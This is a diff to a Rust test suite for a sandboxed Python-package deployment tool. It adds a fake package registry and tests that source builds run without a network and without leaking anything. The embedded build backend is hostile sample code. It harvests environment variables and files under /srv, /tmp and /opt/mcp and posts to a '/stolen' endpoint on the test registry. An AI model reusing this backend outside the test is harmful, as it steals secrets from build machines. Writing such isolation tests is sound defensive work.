@@ -120,11 +120,16 @@ impl Registry {
 
     /// A wheel of these files; what every wheel has is added.
     fn wheel(&self, name: &str, version: &str, files: &[(String, Vec<u8>)]) {
+        self.wheel_needing(name, version, "", files);
+    }
+
+    /// The same with a line of what it needs.
+    fn wheel_needing(&self, name: &str, version: &str, needs: &str, files: &[(String, Vec<u8>)]) {
         let info = format!("{name}-{version}.dist-info");
         let mut all = files.to_vec();
         all.push((
             format!("{info}/METADATA"),
-            format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n").into(),
+            format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{needs}").into(),
         ));
         all.push((
             format!("{info}/WHEEL"),
@@ -135,6 +140,38 @@ impl Registry {
         all.push((format!("{info}/RECORD"), record.into_bytes()));
         let whole = zip(&all);
         let file = format!("{name}-{version}-py3-none-any.whl");
+        self.simple(name, &file, whole);
+    }
+
+    /// The source of a package that has no wheel: its `pyproject.toml` names `tools`, and a build backend of its own.
+    fn source(&self, name: &str, version: &str, tools: &str, backend: &str) {
+        let dir = tempfile::tempdir().unwrap();
+        let top = format!("{name}-{version}");
+        std::fs::create_dir(dir.path().join(&top)).unwrap();
+        let project = format!(
+            "[build-system]\nrequires = [{tools}]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n\
+             [project]\nname = \"{name}\"\nversion = \"{version}\"\n"
+        );
+        let info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
+        for (file, content) in [
+            ("pyproject.toml", project.as_str()),
+            ("backend.py", backend),
+            ("PKG-INFO", &info),
+        ] {
+            std::fs::write(dir.path().join(&top).join(file), content).unwrap();
+        }
+        let tar = Command::new("tar")
+            .args(["-cz", "-C"])
+            .arg(dir.path())
+            .arg(&top)
+            .output()
+            .unwrap();
+        assert!(tar.status.success());
+        self.simple(name, &format!("{top}.tar.gz"), tar.stdout);
+    }
+
+    /// The page of a Python package with one file.
+    fn simple(&self, name: &str, file: &str, whole: Vec<u8>) {
         let hash: String = Sha256::digest(&whole).iter().map(|b| format!("{b:02x}")).collect();
         let page =
             format!("<!DOCTYPE html><html><body><a href=\"/wheels/{file}#sha256={hash}\">{file}</a></body></html>");
@@ -506,6 +543,158 @@ fn no_code_of_a_wheel_runs_while_it_is_installed() {
     assert_eq!(package["version"], "1.0.0");
     assert_eq!(package["tree"], json!(["strangers-wheel@1.0.0"]), "{package:#}");
     nothing_of_the_site_stays(&a, id);
+}
+
+/// A build backend that looks for a network and for the site's credentials, and builds a wheel that says what it found.
+const BUILDER: &str = r#"
+import os, urllib.request, zipfile
+import strangers_tools
+
+found = [f"{k}={v}" for k, v in os.environ.items()]
+for folder in ("/srv", "/tmp", "/opt/mcp"):
+    for at, _, names in os.walk(folder):
+        for name in names:
+            try:
+                found.append(open(os.path.join(at, name), errors="replace").read(65536))
+            except OSError:
+                pass
+reached = []
+try:
+    reached.append(urllib.request.urlopen("PLACE/stolen", data=b"x", timeout=5).status)
+except OSError:
+    pass
+
+def build_wheel(folder, config_settings=None, metadata_directory=None):
+    name = "strangers_source-1.0.0-py3-none-any.whl"
+    info = "strangers_source-1.0.0.dist-info"
+    said = {"interfaces": sorted(os.listdir("/sys/class/net")), "reached": reached, "looked": len(found),
+            "secret": any("DRAWKCAB"[::-1] in f for f in found), "tools": strangers_tools.NAME}
+    with zipfile.ZipFile(os.path.join(folder, name), "w") as z:
+        z.writestr("strangers_source.py", f"LOOT = {said!r}\n")
+        z.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: strangers-source\nVersion: 1.0.0\n")
+        z.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        z.writestr(f"{info}/RECORD", "")
+    return name
+"#;
+
+#[test]
+fn a_python_package_without_a_wheel_is_built_where_no_network_is() {
+    let r = Registry::start();
+    let file = |name: &str, content: &[u8]| (name.to_owned(), content.to_vec());
+    // Not as it is: the backend finds itself, too.
+    let backwards: String = SECRET.chars().rev().collect();
+    let backend = BUILDER.replace("PLACE", &r.at()).replace("DRAWKCAB", &backwards);
+    r.source("strangers_source", "1.0.0", "\"strangers-tools\"", &backend);
+    r.wheel(
+        "strangers_tools",
+        "5.0.0",
+        &[file("strangers_tools.py", b"NAME = 'tools'\n")],
+    );
+    let server = format!("import json, strangers_source\n{}", fixture("server.py"));
+    let parts = |name: &str| {
+        [
+            file(&format!("{name}/__init__.py"), server.as_bytes()),
+            file(
+                &format!("{name}-1.0.0.dist-info/entry_points.txt"),
+                format!("[console_scripts]\n{} = {name}:main\n", name.replace('_', "-")).as_bytes(),
+            ),
+        ]
+    };
+    let needs = "Requires-Dist: strangers-source >= 1\n";
+    r.wheel_needing("strangers_mixed", "1.0.0", needs, &parts("strangers_mixed"));
+    let a = r.site("");
+    let v = run(&a, &["uvx", "--package", "strangers-mixed", "--network", "none"]);
+    let id = v["id"].as_str().unwrap();
+    assert_eq!(r.stolen(), Vec::<String>::new());
+    let log = a.cli(&["logs", "--deploy", id]);
+    assert!(
+        log.contains("building from source, without a network: strangers-source@1.0.0"),
+        "{log}"
+    );
+    let loot = |id: &str| {
+        let container = a.container_of(id);
+        let print = "import json, strangers_source; print(json.dumps(strangers_source.LOOT))";
+        let said = [
+            "exec",
+            "--user",
+            "10001:10001",
+            &container,
+            "/opt/mcp/bin/python",
+            "-c",
+            print,
+        ];
+        let said: Value = serde_json::from_str(&a.docker_lines(&said)[0]).unwrap();
+        assert_eq!(said["interfaces"], json!(["lo"]), "{said}");
+        assert_eq!(
+            (&said["reached"], &said["secret"]),
+            (&json!([]), &json!(false)),
+            "{said}"
+        );
+        assert_eq!(said["tools"], "tools");
+        assert!(said["looked"].as_u64().unwrap() > 10, "it looked around: {said}");
+        let left = ["exec", "--user", "10001:10001", &container, "ls", "-A", "/opt/mcp"];
+        assert!(!a.docker_lines(&left).contains(&".build".to_owned()));
+    };
+    loot(id);
+    let package = a.show(id)["package"].clone();
+    assert_eq!(
+        package["tree"],
+        json!(["strangers-mixed@1.0.0", "strangers-source@1.0.0"]),
+        "{package:#}"
+    );
+    nothing_of_the_site_stays(&a, id);
+
+    // Once its image is lost it is built again, from the source that the lock names.
+    a.cli(&["stop", id]);
+    a.docker_lines(&["rm", "-f", &a.container_of(id)]);
+    for image in a.built_images() {
+        a.docker_lines(&["rmi", "-f", &image]);
+    }
+    a.cli(&["start", id]);
+    a.wait_state(id, "running", MINUTE * 2);
+    loot(id);
+    assert_eq!(a.show(id)["package"]["lock"], package["lock"]);
+}
+
+#[test]
+fn what_cannot_be_built_from_source_is_told_without_flags() {
+    let r = Registry::start();
+    let fails = "raise SystemExit(\"error: command 'gcc' failed: no such file\")\n";
+    r.source("strangers_native", "1.0.0", "", fails);
+    r.source("strangers_toolless", "1.0.0", "\"strangers-native\"", fails);
+    for (name, needs) in [
+        ("strangers_wants", "strangers-native"),
+        ("strangers_lacks", "strangers-toolless"),
+    ] {
+        let entry = format!("[console_scripts]\nrun = {name}:main\n");
+        r.wheel_needing(
+            name,
+            "1.0.0",
+            &format!("Requires-Dist: {needs}\n"),
+            &[(format!("{name}-1.0.0.dist-info/entry_points.txt"), entry.into_bytes())],
+        );
+    }
+    let a = r.site("");
+    let said = a.cli_fails(1, &["run", "uvx", "--package", "strangers-wants"]);
+    for words in [
+        "built from source",
+        "without a compiler",
+        "command 'gcc' failed",
+        "run an image",
+    ] {
+        assert!(said.contains(words), "{words}: {said}");
+    }
+    let other = a.cli_fails(1, &["run", "uvx", "--package", "strangers-lacks"]);
+    for words in [
+        "strangers-toolless 1.0.0 is to be had as source only",
+        "strangers-native",
+        "run an image",
+    ] {
+        assert!(other.contains(words), "{words}: {other}");
+    }
+    assert!(![said, other].concat().contains("--no-b"), "no flag of uv");
+    assert_eq!(r.stolen(), Vec::<String>::new());
+    wait_for("what installed is gone", MINUTE, || builds(&a).is_empty());
 }
 
 #[test]
